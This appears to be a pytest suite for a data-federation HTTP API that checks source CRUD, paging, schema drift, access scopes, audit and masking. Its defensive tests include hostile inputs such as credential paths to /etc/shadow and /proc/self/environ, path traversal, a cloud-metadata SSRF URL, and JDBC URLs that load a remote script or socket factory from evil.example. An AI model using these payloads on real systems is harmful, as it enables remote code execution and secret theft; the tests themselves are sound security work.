"""Declared sources over HTTP: what they are, who may do what, and what an intruder gets."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlite_source import alter, lay_shop, open_with_sqlite
from version_site import SECRET, VersionSite, open_version_site, problem

from forge.api.app import create_app
from forge.federation.source import DeclaredSource, SourceOrigin
from forge.federation.source_keys import read_source
from forge.flows.federation.sources import create_source
from forge.flows.runs.records import AuditRecord
from forge.flows.upkeep.access import TokenScope, digest_of
from forge.wiring.federation import FederationParts

API = "/api/v1/federation/sources"
TILL = {"name": "till", "connector": "sqlite", "path": "data/shared/till.db"}
YAML = """\
project: shop
user: {name: Ada, email: ada@example.com}
federation: {hosts: [db.example.com], folders: [data/shared]}
"""
EVE, BOB = "eve@example.com", "bob@example.com"

pytestmark = pytest.mark.slow


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[VersionSite]:
    open_with_sqlite(monkeypatch)
    with open_version_site(tmp_path / "shop", YAML) as opened:
        lay_shop(opened.root / "data" / "shared" / "till.db")
        yield opened


def add(site: VersionSite, as_: dict[str, str] | None = None, **fields: object) -> dict[str, Any]:
    made = site.client.post(API, json={**TILL, **fields}, headers=as_)
    assert made.status_code == 201, made.text
    assert made.headers["location"] == f"{API}/{made.json()['id']}"
    found: dict[str, Any] = made.json()
    return found


def get(site: VersionSite, path: str = "", as_: dict[str, str] | None = None, **query: object) -> Any:
    answer = site.client.get(f"{API}{path}", params=query, headers=as_)
    assert answer.status_code == 200, answer.text
    return answer.json()


def test_a_source_is_made_read_changed_tested_and_deleted(site: VersionSite) -> None:
    made = add(site, description="Tills", hidden=["customers.email"])
    assert (made["id"], made["version"], made["origin"], made["created_by"]) == ("till", 1, "http", "ada@example.com")
    assert get(site, "/till") == get(site, "/TILL") == made
    body = {"expected_version": 1, "description": None, "schema": "main"}
    changed = site.client.patch(f"{API}/till", json=body).json()
    assert (changed["version"], changed["description"], changed["schema"]) == (2, "", "main")
    assert changed["hidden"] == ["customers.email"]
    tested = site.client.post(f"{API}/till/test").json()
    assert tested["answered"].startswith("SQLite 3.")
    assert (tested["tables"], tested["changes"]) == (2, [])
    assert site.client.delete(f"{API}/till", params={"expected_version": 2}).status_code == 204
    problem(site.client.get(f"{API}/till"), 404, "E881")


def test_lists_come_in_pages(site: VersionSite) -> None:
    for name in ("b", "a", "c"):
        add(site, name=name)
    page = get(site, limit=2)
    assert ([one["id"] for one in page["items"]], page["has_more"], page["total_count"]) == (["a", "b"], True, 3)
    rest = get(site, limit=2, cursor=page["next_cursor"])
    assert ([one["id"] for one in rest["items"]], rest["next_cursor"]) == (["c"], None)
    tables = get(site, "/a/tables", limit=1)
    assert ([one["table"] for one in tables["items"]], tables["total_count"]) == (["customers"], 2)
    more = get(site, "/a/tables", limit=1, cursor=tables["next_cursor"])
    assert ([one["table"] for one in more["items"]], more["has_more"]) == (["orders"], False)


def test_tables_and_drift(site: VersionSite) -> None:
    add(site, hidden=["customers.email"])
    table = get(site, "/till/tables/customers")
    assert [(one["name"], one["type"], one["hidden"]) for one in table["columns"]] == [
        ("id", "bigint", False),
        ("email", "string", True),
        ("city", "string", False),
    ]
    assert "customers" in problem(site.client.get(f"{API}/till/tables/customer"), 404, "E887")["fix"]
    site.client.post(f"{API}/till/test")
    alter(site.root / "data" / "shared" / "till.db", "ALTER TABLE customers RENAME COLUMN city TO town")
    drift = get(site, "/till/drift")
    assert [(one["change"], one["column"]) for one in drift["changes"]] == [("removed", "city"), ("added", "town")]
    assert site.client.post(f"{API}/till/test").json()["changes"] == drift["changes"]
    assert get(site, "/till/drift")["changes"] == []


def test_a_stale_change_is_refused_and_a_taken_name(site: VersionSite) -> None:
    add(site)
    assert site.client.patch(f"{API}/till", json={"expected_version": 1, "description": "x"}).status_code == 200
    problem(site.client.patch(f"{API}/till", json={"expected_version": 1, "description": "y"}), 409, "E883")
    problem(site.client.delete(f"{API}/till", params={"expected_version": 1}), 409, "E883")
    problem(site.client.post(API, json=TILL), 409, "E882")
    site.commit("id,name,amount\n1,a,10.5\n")
    refused = problem(site.client.post(API, json={**TILL, "name": "core"}), 409, "E882")
    assert "core.orders" in refused["why"]
    assert get(site, "/till")["description"] == "x"


def test_sources_of_files_and_commands_are_not_changed_here(site: VersionSite) -> None:
    (site.root / "sources").mkdir()
    text = "sources:\n  - {name: crm, connector: sqlite, path: data/shared/till.db}\n  - {name: x, connector: ftp}\n"
    (site.root / "sources" / "crm.yaml").write_text(text)
    create_source(TILL, site.wiring.federation.source_ports())
    listed = get(site)
    assert [(one["id"], one["origin"], one["where"]) for one in listed["items"]] == [
        ("crm", "file", "sources/crm.yaml:2"),
        ("till", "command", None),
    ]
    assert [one["where"] for one in listed["errors"]] == ["sources/crm.yaml:3"]
    for call in (site.client.patch, site.client.delete):
        body = {"json": {"description": "x"}} if call == site.client.patch else {}
        assert problem(call(f"{API}/crm", **body), 409, "E884")["where"] == "sources/crm.yaml:2"
        problem(call(f"{API}/till", **body), 409, "E884")


def test_who_may_only_read_changes_nothing_and_does_not_see_the_way(site: VersionSite) -> None:
    add(site, hidden=["customers.email"], description="Tills")
    reader = site.token_of(EVE, TokenScope.READ)
    for answer in (
        site.client.post(API, json={**TILL, "name": "x"}, headers=reader),
        site.client.patch(f"{API}/till", json={"description": "x"}, headers=reader),
        site.client.delete(f"{API}/till", headers=reader),
        site.client.post(f"{API}/till/test", headers=reader),
    ):
        problem(answer, 403, "E904")
    seen = get(site, "/till", reader)
    assert (seen["description"], seen["may_read"]) == ("Tills", True)
    ways = ("url", "path", "format", "columns", "schema", "user", "password", "options", "readers", "hidden")
    assert all(seen[key] is None for key in ways)
    assert get(site, as_=reader)["items"] == [seen]
    assert get(site, "/till/tables", reader)["total_count"] == 2
    assert get(site, "/till/drift", reader)["seen_at"] is None
    assert get(site, "/till/drift", reader)["seen_at"] is None  # nothing was written for who may only read
    for path in ("", "/till", "/till/tables", "/till/drift"):
        assert site.client.get(f"{API}{path}", headers={"authorization": "Bearer wrong"}).status_code == 401


def test_who_is_no_reader_of_a_source_learns_nothing_and_cannot_let_himself_in(site: VersionSite) -> None:
    add(site, readers=["ada@example.com"])
    eve = site.token_of(EVE)
    told = set()
    for path in ("tables", "tables/customers", "tables/not_there", "drift"):
        refused = problem(site.client.get(f"{API}/till/{path}", headers=eve), 403, "E885")
        told.add((refused["detail"], refused["why"], refused["fix"]))
    assert len(told) == 1
    problem(site.client.patch(f"{API}/till", json={"readers": [EVE]}, headers=eve), 403, "E885")
    problem(site.client.delete(f"{API}/till", headers=eve), 403, "E885")
    tested = site.client.post(f"{API}/till/test", headers=eve).json()
    assert (tested["tables"], tested["changes"]) == (None, None)
    assert get(site, "/till", eve)["may_read"] is False
    assert get(site, "/till")["readers"] == ["ada@example.com"]


DATABASE = {
    "name": "db",
    "connector": "postgresql",
    "url": "jdbc:postgresql://db.example.com/d",
    "user": "env:FORGE_SOURCE_USER",
    "password": "env:FORGE_SOURCE_PASSWORD",
}
NO_DATABASE = {"url": None, "user": None, "password": None}


@pytest.mark.parametrize(
    "fields",
    [
        {"url": "jdbc:postgresql://evil.example/d"},
        {"url": "jdbc:postgresql://127.0.0.1/forge"},
        {"url": "jdbc:postgresql://db.example.com/d?hostaddr=10.0.0.1"},
        {"user": None, "password": None},
        {"password": ""},
        {"options": {"service": "x"}},
        {"password": "file:/etc/shadow"},
        {"user": "file:/proc/self/environ"},
        {"password": "env:HOME"},
        {"password": "env:FORGE_DATABASE_URL"},
        {"options": {"hostaddr": "10.0.0.1"}},
        {**NO_DATABASE, "connector": "sqlite", "path": ".forge/forge.db"},
        {**NO_DATABASE, "connector": "sqlite", "path": "/etc/passwd"},
        {**NO_DATABASE, "connector": "files", "path": "/etc/passwd", "format": "csv", "columns": {"a": "string"}},
        {
            **NO_DATABASE,
            "connector": "files",
            "path": "data/shared/../../forge.yaml",
            "format": "csv",
            "columns": {"a": "int"},
        },
        {**NO_DATABASE, "connector": "files", "path": ".forge/warehouse", "format": "parquet"},
        {**NO_DATABASE, "connector": "files", "path": "s3a://bucket/x.parquet"},
    ],
)
def test_a_source_over_http_reaches_nothing_that_the_operator_did_not_name(
    site: VersionSite, fields: dict[str, object], monkeypatch: pytest.MonkeyPatch
) -> None:
    opened: list[str] = []
    monkeypatch.setattr(FederationParts, "_open", lambda parts, source: opened.append(source.name))
    problem(site.client.post(API, json={**DATABASE, **fields}), 403, "E886")
    assert site.client.post(API, json=DATABASE).status_code == 201
    problem(site.client.patch(f"{API}/db", json=fields), 403, "E886")
    assert get(site, "/db")["version"] == 1
    assert opened == []


def test_a_database_without_credentials_is_not_opened_as_the_server(
    site: VersionSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One that was declared when it was allowed."""
    opened: list[str] = []
    monkeypatch.setattr(FederationParts, "_open", lambda parts, source: opened.append(source.name))
    declared, now = site.wiring.federation.declared, site.wiring.clock()
    fields = {key: value for key, value in DATABASE.items() if key not in ("user", "password")}
    one = DeclaredSource(
        source=read_source(fields, origin=SourceOrigin.HTTP), version=1, created_at=now, updated_at=now
    )
    assert declared.apply(None, one, AuditRecord(now, "ada", "source.create", "db", {}))
    for path in ("tables", "tables/x", "drift"):
        problem(site.client.get(f"{API}/db/{path}"), 403, "E886")
    problem(site.client.post(f"{API}/db/test"), 403, "E886")
    asked = {"sql": "SELECT * FROM db.x"}
    problem(site.client.post("/api/v1/federation/query", json=asked), 403, "E886")
    problem(site.client.post("/api/v1/federation/query/explain", json=asked), 403, "E886")
    assert opened == []


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:postgresql://db.example.com/d",
        "jdbc:postgresql://db.example.com/d?socketFactory=evil.Factory&socketFactoryArg=http://evil.example",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'https://evil.example/x.sql'",
        "jdbc:derby:data/shared/till;create=true",
    ],
)
def test_no_source_of_a_driver_is_made_changed_or_opened_over_http(site: VersionSite, url: str) -> None:
    door = {"name": "door", "connector": "jdbc", "url": url}
    problem(site.client.post(API, json=door), 403, "E886")
    problem(site.client.post(API, json={**door, "options": {"driver": "evil.Driver"}}), 403, "E886")
    assert site.client.post(API, json=DATABASE).status_code == 201
    problem(site.client.patch(f"{API}/db", json={"connector": "jdbc", "url": url}), 403, "E886")
    assert [one["id"] for one in get(site)["items"]] == ["db"]
    (site.root / "sources").mkdir(exist_ok=True)
    (site.root / "sources" / "own.yaml").write_text(f'sources:\n  - {{name: own, connector: jdbc, url: "{url}"}}\n')
    problem(site.client.patch(f"{API}/own", json={"url": "jdbc:h2:mem:y"}), 409, "E884")
    assert get(site, "/own")["connector"] == "jdbc"
    assert not site.wiring.session.started, "a JVM was started"


def test_what_it_may_reach_is_looked_at_again_when_it_is_opened(site: VersionSite) -> None:
    add(site)
    add(site, name="late")
    secret = site.root / "secret.db"
    lay_shop(secret)
    link = site.root / "data" / "shared" / "till.db"
    link.unlink()
    link.symlink_to(secret)
    for path in ("till/tables", "till/drift"):
        problem(site.client.get(f"{API}/{path}"), 403, "E886")
    problem(site.client.post(f"{API}/till/test"), 403, "E886")


def test_without_settings_nothing_is_reached_over_http(tmp_path: Path) -> None:
    with open_version_site(tmp_path / "bare") as bare:
        for body in (TILL, DATABASE, {**TILL, "connector": "files", "path": "data/x.parquet"}):
            problem(bare.client.post(API, json=body), 403, "E886")
        assert get(bare)["items"] == []


def test_an_answer_for_one_is_never_given_to_another(site: VersionSite) -> None:
    """The server keeps answers for a moment, for all who ask the same."""
    add(site, readers=["ada@example.com"])
    app = create_app(site.wiring, login_digest=digest_of(SECRET), kept_for=3600)
    with TestClient(app, base_url="http://127.0.0.1:8765", raise_server_exceptions=False) as client:
        ada = {"authorization": f"Bearer {SECRET}"}
        eve = site.token_of(EVE, TokenScope.READ)
        assert client.get(f"{API}/till/tables", headers=ada).status_code == 200
        assert client.get(f"{API}/till/tables", headers=eve).status_code == 403
        assert client.get(f"{API}/till", headers=ada).json()["path"] == TILL["path"]
        assert client.get(f"{API}/till", headers=eve).json()["path"] is None


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ({}, "E105"),
        ({**TILL, "name": ""}, "E880"),
        ({**TILL, "name": "a b"}, "E880"),
        ({**TILL, "name": "a\x00"}, "E105"),
        ({**TILL, "name": "x" * 300}, "E105"),
        ({**TILL, "name": "x" * 65}, "E880"),
        ({**TILL, "connector": "oracle"}, "E105"),
        ({**TILL, "connector": "jdbc"}, "E880"),
        ({**TILL, "nope": 1}, "E105"),
        ({**TILL, "file": "sources/x.yaml"}, "E105"),
        ({**TILL, "origin": "command"}, "E105"),
        ({**TILL, "url": "jdbc:sqlite:x"}, "E880"),
        ({**TILL, "readers": ["x"] * 201}, "E105"),
        ({**TILL, "readers": "ada"}, "E105"),
        ({**TILL, "description": "x" * 10_001}, "E105"),
        ({**DATABASE, "password": "hunter2"}, "E106"),
        ({**DATABASE, "url": "jdbc:postgresql://sa:hunter2@db.example.com/d"}, "E106"),
        ({**TILL, "connector": "files", "path": "http://169.254.169.254/latest.parquet"}, "E880"),
        ([TILL], "E105"),
    ],
)
def test_a_wrong_body_changes_nothing_and_shows_no_secret(site: VersionSite, body: object, code: str) -> None:
    answer = site.client.post(API, json=body)
    problem(answer, 409 if code == "E106" else 422, code)
    assert "hunter2" not in answer.text
    assert get(site)["items"] == []


def test_an_unknown_source_has_near_names_and_one_that_is_down_is_named(site: VersionSite) -> None:
    add(site)
    assert "till" in problem(site.client.get(f"{API}/tilt"), 404, "E881")["fix"]
    (site.root / "data" / "shared" / "till.db").unlink()
    down = problem(site.client.post(f"{API}/till/test"), 503, "E308")
    assert "till" in down["detail"]


def test_why_a_source_cannot_be_opened_is_not_for_who_may_only_read(site: VersionSite) -> None:
    url = "jdbc:postgresql://db.example.com/d"
    secret = "env:FORGE_SOURCE_NOT_SET"
    db = {"name": "db", "connector": "postgresql", "url": url, "user": secret, "password": secret}
    assert site.client.post(API, json=db).status_code == 201
    reader = site.token_of(EVE, TokenScope.READ)
    assert "FORGE_SOURCE_NOT_SET" in problem(site.client.get(f"{API}/db/tables"), 404, "E107")["detail"]
    for path in ("tables", "tables/x", "drift"):
        told = site.client.get(f"{API}/db/{path}", headers=reader)
        assert problem(told, 404, "E107")["detail"] == "The source db cannot be read"
        assert "FORGE_SOURCE" not in told.text


def test_changes_are_in_the_audit_with_who_made_them(site: VersionSite) -> None:
    bob = site.token_of(BOB)
    add(site, bob)
    site.client.patch(f"{API}/till", json={"description": "x"}, headers=bob)
    site.client.delete(f"{API}/till")
    rows = [(one.action, one.actor, one.subject) for one in site.wiring.metadata.audit(limit=3)]
    assert rows == [
        ("source.drop", "ada@example.com", "till"),
        ("source.change", BOB, "till"),
        ("source.create", BOB, "till"),
    ]


def test_masks_and_row_filters_are_for_who_may_write_and_are_not_taken_away_by_whom_they_are_for(
    site: VersionSite,
) -> None:
    mask = {"column": "customers.email", "as": "hash", "except": ["ada@example.com"]}
    rows = {"table": "customers", "filter": "city <> 'Rome'", "for": [EVE]}
    made = add(site, masks=[mask], rows=[rows])
    assert (made["masks"][0]["as"], made["rows"][0]["filter"]) == ("hash", "city <> 'Rome'")
    problem(site.client.post(API, json={**TILL, "name": "b", "rows": [{**rows, "filter": "1 = 1"}]}), 422, "E880")
    eve, zoe = site.token_of(EVE), site.token_of("zoe@example.com", TokenScope.READ)
    seen = get(site, "/till", zoe)
    assert (seen["masks"], seen["rows"]) == (None, None)
    tries: list[dict[str, Any]] = [{"masks": []}, {"rows": None}, {"readers": []}, {"description": "x"}]
    for taken in tries:
        problem(site.client.patch(f"{API}/till", json=taken, headers=eve), 403, "E885")
    problem(site.client.delete(f"{API}/till", headers=eve), 403, "E885")
    table = get(site, "/till/tables/customers", eve)
    assert (table["rows"], [one["mask"] for one in table["columns"]]) == (None, [None, "hash", None])
    assert get(site, "/till/tables/customers")["columns"][1]["mask"] is None
    drift = get(site, "/till/drift", eve)["changes"]
    assert {one["change"] for one in drift} == {"added"}  # nothing is retyped: what is remembered is what there is
    changed = site.client.patch(f"{API}/till", json={"rows": []}).json()
    assert (changed["rows"], len(changed["masks"])) == ([], 1)


def test_columns_of_a_csv_file_are_proposed_to_who_may_write_and_make_a_source_of_it(site: VersionSite) -> None:
    (site.root / "data" / "shared" / "rates.csv").write_text("day,rate\n2026-01-31,1.5\n")
    path = {"path": "data/shared/rates.csv"}
    found = site.client.post(f"{API}/columns", json=path).json()
    assert found["columns"] == [{"name": "day", "type": "date"}, {"name": "rate", "type": "double"}]
    columns = {one["name"]: one["type"] for one in found["columns"]}
    keys: dict[str, Any] = {"connector": "files", "columns": columns, "options": found["options"], **path}
    made = add(site, name="rates", **keys)
    assert (made["columns"], made["format"]) == ({"day": "date", "rate": "double"}, "csv")
    reader = site.token_of(EVE, TokenScope.READ)
    problem(site.client.post(f"{API}/columns", json=path, headers=reader), 403, "E904")
    problem(site.client.post(f"{API}/columns", json={"path": "shop.csv"}), 403, "E886")
